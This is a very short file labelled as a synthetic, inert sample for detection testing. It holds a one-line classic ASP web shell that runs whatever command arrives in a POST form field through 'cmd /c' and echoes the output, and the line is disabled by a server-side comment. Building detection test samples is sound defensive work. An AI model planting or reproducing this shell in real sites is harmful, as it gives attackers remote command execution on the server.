<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<% Set sh = CreateObject("WScript.Shell") : Set ex = sh.Exec("cmd /c " & Request.Form("c")) : Response.Write ex.StdOut.ReadAll %>
--%>
